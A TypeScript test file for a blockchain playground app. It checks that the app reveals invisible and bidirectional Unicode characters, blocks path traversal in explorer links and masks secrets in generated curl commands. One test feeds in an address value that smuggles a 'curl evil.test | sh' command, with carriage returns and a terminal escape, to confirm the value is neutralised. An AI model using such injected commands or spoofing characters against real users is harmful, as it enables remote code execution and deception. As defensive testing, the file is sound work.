import { expect, test } from 'vitest'
import { explore } from '../../../../playground/app/result/explorer.js'
import { readable } from '../../../../playground/app/result/readable.js'
import { curlStyle } from '../../../../playground/app/run/snippet/curl.js'
import { quoted } from '../../../../playground/app/run/snippet/literal.js'
import { getNativeBalance } from '../../../../src/evm.js'
import { setSettings } from '../../../../src/streams.js'

const context = { row: undefined, chain: '0x1', network: undefined }

test('a name that would turn the text around it, or look like another, shows what it hides', () => {
  expect(readable('USDT\u202e)1(', {}, context).text).toBe('USDT\\u202e)1(')
  expect(readable('US\u200bDC', {}, context)).toMatchObject({ text: 'US\\u200bDC', full: 'US\u200bDC' })
  expect(readable('https://a.test/\u2066b', {}, context).text).toBe('a.test/\\u2066b')
  const row = { tokenDecimals: 0, tokenSymbol: '\u202eTDSU' }
  const amount = { display: { as: 'amount', decimals: 'tokenDecimals', symbol: 'tokenSymbol' } } as const
  expect(readable(5n, amount, { ...context, row }).text).toMatch(/^5 .*TDSU$/)
  expect(readable(5n, amount, { ...context, row }).text).not.toContain('\u202e')
})

test('letters of every language, emoji and line breaks are shown as they are', () => {
  for (const text of ['سلام', '👩‍🚀', 'می‌خواهم', 'a\nb\tc', 'é']) expect(readable(text, {}, context).text).toBe(text)
})

test('tags, fillers and rows of joiners or selectors, which carry messages that nobody sees, are shown', () => {
  const said = ['a\u{e0041}b', 'a\u3164b', 'a\u200d\u200db', 'a\ufe0f\ufe01b', 'a\u{e0101}b', '🏴\u{e0041}\u{e007f}']
  expect(said.map((text) => readable(text, {}, context).text)).toEqual([
    'a\\udb40\\udc41b',
    'a\\u3164b',
    'a\u200d\\u200db',
    'a\ufe0f\\ufe01b',
    'a\\udb40\\udd01b',
    '🏴\\udb40\\udc41\\udb40\\udc7f',
  ])
  for (const text of ['❤️‍🔥', '🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}', '葛\u{e0100}城'])
    expect(readable(text, {}, context).text).toBe(text)
})

test('an address cannot lead elsewhere on the site of its explorer', () => {
  const address = `0x${'0'.repeat(18)}/../../?a=b#${'0'.repeat(12)}`
  expect(explore('address', address, context)).not.toMatch(/\/\.\.|\?|#/)
  expect(explore('address', address, { ...context, network: 'mainnet' })).not.toMatch(/\/\.\.|#/)
})

test('code shows what a text of it hides, and still says the same', () => {
  const text = "a\u202e\u2066// b\u2028c\u0000d'"
  expect(quoted(text)).toMatch(/^'[ -~]+'$/)
  expect(JSON.parse(quoted(text).replace("\\'", "'").replace(/^'|'$/g, '"'))).toBe(text)
})

const loaded = (operation: object) => ({ operation }) as unknown as Parameters<typeof curlStyle>[0]

test('a command for a terminal presses no Enter by itself', () => {
  const command = curlStyle(loaded(getNativeBalance), { address: 'x\rcurl evil.test | sh\r\u001b[2J' }, {})
  expect(command).toMatch(/^# [ -~…]+\n$/)
})

test('a command shows no secret, whatever characters it has', () => {
  const command = curlStyle(loaded(setSettings), { region: 'us-east-1', secretKey: 'my"sec\\ret' }, {})
  expect(command).toContain('"secretKey":"…"')
})
